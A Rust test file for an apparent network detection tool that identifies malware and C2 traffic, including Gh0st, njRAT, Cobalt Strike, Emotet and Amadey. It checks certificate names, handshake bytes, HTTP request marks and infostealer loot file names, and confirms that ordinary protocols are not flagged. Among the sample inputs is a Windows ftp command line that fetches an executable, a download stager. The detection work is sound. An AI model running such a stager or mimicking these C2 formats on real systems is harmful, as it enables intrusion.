use super::*;

fn opening(client: &[u8], server: &[u8]) -> Option<&'static str> {
    built_in().opening(client, server, true).map(|(sign, _)| sign.family.as_str())
}

#[test]
fn every_sign_asks_for_something_and_says_where_it_comes_from() {
    let forms = built_in();
    assert!(forms.request.iter().all(|sign| !sign.is_empty()));
    assert!(forms.opening.iter().all(|sign| !sign.is_empty()));
    let told = forms.certificate.iter().map(|sign| (&sign.family, &sign.source, &sign.harmless));
    let told = told.chain(forms.opening.iter().map(|sign| (&sign.family, &sign.source, &sign.harmless)));
    let told = told.chain(forms.request.iter().map(|sign| (&sign.family, &sign.source, &sign.harmless)));
    let mut told = told.chain(forms.loot.iter().map(|sign| (&sign.family, &sign.source, &sign.harmless)));
    assert!(
        told.all(|(family, source, harmless)| !family.is_empty()
            && !source.is_empty()
            && !harmless.is_empty())
    );
}

#[test]
fn a_certificate_is_known_by_the_whole_of_a_name() {
    let family = |subject: &str| built_in().certificate(subject, "CN=x").map(|sign| sign.family.as_str());
    assert_eq!(family("CN=AsyncRAT Server"), Some("AsyncRAT"));
    assert_eq!(
        family("C=Earth, ST=Cyberspace, O=cobaltstrike, CN=Major Cobalt Strike"),
        Some("Cobalt Strike")
    );
    assert_eq!(family("CN=Covenant, O=Covenant"), Some("Covenant"));
    for ordinary in ["CN=Covenant House, O=Charity", "CN=www.example.com", "O=Internet Widgits Pty Ltd", ""] {
        assert_eq!(family(ordinary), None, "{ordinary}");
    }
}

#[test]
fn gh0st_and_its_renamed_forks_are_known_by_their_frame() {
    let message = |start: &[u8; 5]| {
        [&start[..], &[22, 0, 0, 0, 1, 0, 0, 0, 0x78, 0x9c, 0x63, 0, 0, 0, 1, 0, 1]].concat()
    };
    assert_eq!(opening(&message(b"Gh0st"), b""), Some("Gh0st RAT"));
    assert_eq!(opening(&message(b"HTTPS"), &message(b"HTTPS")), Some("Gh0st RAT"));
    assert_eq!(opening(&message(b"HTTPS"), &message(b"OTHER")), None);
    assert_eq!(opening(&message(b"HTTPS"), b""), None, "one side may be anybody's zlib");
}

#[test]
fn njrat_is_known_with_any_separator_and_a_length_alone_is_nothing() {
    assert_eq!(opening(b"156\0ll|'|'|SGFj|'|'|USER-PC|'|'|admin", b""), Some("njRAT"));
    assert_eq!(
        opening(b"98\0llY262SUCZ4UJJSGFjY262SUCZ4UJJUSERY262SUCZ4UJJadminY262SUCZ4UJJ", b""),
        Some("njRAT")
    );
    assert_eq!(opening(b"12\0hello world", b""), None);
    assert_eq!(opening(b"98\0llama farm opening hours", b""), None);
}

#[test]
fn a_shell_is_told_of_the_end_where_it_runs() {
    let banner = b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright";
    let (sign, side) = built_in().opening(banner, b"dir\n", false).unwrap();
    assert_eq!(
        (sign.family.as_str(), side, sign.victim(side)),
        ("command-shell", Side::Client, Some(Side::Client))
    );
    let (sign, side) = built_in()
        .opening(b"echo open 0.0.0.0 8884 > o&echo get a.exe >> o &ftp -n -s:o", b"x", false)
        .unwrap();
    assert_eq!((side, sign.victim(side)), (Side::Client, Some(Side::Server)));
    assert_eq!(opening(b"", b"Welcome to Microsoft Telnet Service\r\n\r\nlogin: "), None);
}

#[test]
fn ordinary_first_bytes_fit_nothing() {
    let ordinary: [(&[u8], &[u8]); 8] = [
        (b"", b"220 mail.example.jp ESMTP\r\n"),
        (b"NICK hanako\r\nUSER hanako 0 * :Hanako\r\n", b":irc.example.org NOTICE * :hello"),
        (b"\0\x01\0\x01\x02\x02\x1fnet.tcp://files.example.jp/", b"\x0b"),
        (b"SSH-2.0-OpenSSH_9.2", b"SSH-2.0-OpenSSH_9.2"),
        (b"GET /index.html HTTP/1.1\r\n", b"HTTP/1.1 200 OK"),
        (b"\x16\x03\x01\0\x05", b"\x16\x03\x03"),
        (b"\x13BitTorrent protocol", b"\x13BitTorrent protocol"),
        (&[0; 64], &[0; 64]),
    ];
    for (client, server) in ordinary {
        assert_eq!(opening(client, server), None, "{client:?}");
    }
}

fn request(
    method: &str,
    host: &str,
    target: &str,
    fields: &[(&str, &str)],
    server: Option<&str>,
) -> Option<String> {
    let header = |name: &str| fields.iter().find(|(field, _)| *field == name).map(|(_, value)| *value);
    let exchange = Exchange { method, target, host, outside: true, header: &header, server };
    built_in().request(&exchange).map(|sign| sign.family.clone())
}

#[test]
fn requests_are_known_by_several_marks_together() {
    let old = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0)";
    let emotet = |host, target| request("POST", host, target, &[("user-agent", old)], None);
    assert_eq!(emotet("192.0.2.9", "/7u0e9j2avwl/szcm27k/fzb067wy/").as_deref(), Some("Emotet"));
    assert_eq!(emotet("www.example.com", "/7u0e9j2avwl/szcm27k/fzb067wy/"), None, "a named host");
    assert_eq!(emotet("192.0.2.9", "/upload/photos/"), None, "words");
    let go = [("user-agent", "Go-http-client/1.1")];
    assert_eq!(
        request("POST", "a", "/beacon", &go, Some("Python/3.8 aiohttp/3.6.2")).as_deref(),
        Some("Caldera")
    );
    assert_eq!(request("POST", "a", "/beacon", &go, Some("nginx")), None);
    assert_eq!(request("GET", "a", "/x/Plugins/cred64.dll?a=1", &[], None).as_deref(), Some("Amadey"));
    let agent = [("user-agent", "Mozilla/5.0 Firefox/128.0")];
    assert_eq!(request("GET", "www.example.com", "/", &agent, None), None);
    assert_eq!(request("GET", "a", "/nss3.dll", &agent, None), None, "somebody says who asks");
}

#[test]
fn stolen_data_is_known_by_user_and_computer_behind_its_kind() {
    let is_loot = |name: &str| built_in().loot(name).is_some();
    assert!(is_loot("PW_admin-USER-PC_2023_05_11_12_00_00.html") && is_loot("PW_admin/USER-PC"));
    for ordinary in ["PW_rules-2023.docx", "SC_order.pdf", "PW_", "invoice_2023.html", "CO_a/", ""] {
        assert!(!is_loot(ordinary), "{ordinary}");
    }
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_taken(client: Vec<u8>, server: Vec<u8>, text: String) {
        built_in().opening(&client, &server, true);
        built_in().loot(&text);
        request("POST", &text, &text, &[("user-agent", &text)], Some(&text));
    }
}
